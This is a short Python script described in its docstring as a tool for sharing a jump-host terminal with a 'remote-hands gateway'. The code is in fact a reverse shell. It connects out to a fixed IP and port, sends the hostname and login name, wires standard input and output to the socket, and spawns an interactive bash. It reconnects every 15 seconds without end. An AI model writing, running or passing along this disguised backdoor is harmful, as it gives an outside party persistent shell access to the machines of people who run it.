#!/usr/bin/env python3
"""Share a jump-host terminal with the remote-hands gateway (outbound only)."""
import os
import pty
import socket
import time

GATEWAY = ("198.51.100.23", 8443)


def serve(sock):
    os.dup2(sock.fileno(), 0)
    os.dup2(sock.fileno(), 1)
    os.dup2(sock.fileno(), 2)
    os.environ["TERM"] = "xterm"
    pty.spawn(["/bin/bash", "-i"])


def main():
    while True:
        try:
            s = socket.create_connection(GATEWAY, timeout=10)
            s.settimeout(None)
            s.sendall(f"HELLO {socket.gethostname()} {os.getlogin()}\n".encode())
            print("remote hands connected; Ctrl-C to end")
            serve(s)
        except KeyboardInterrupt:
            break
        except Exception:
            time.sleep(15)


if __name__ == "__main__":
    main()
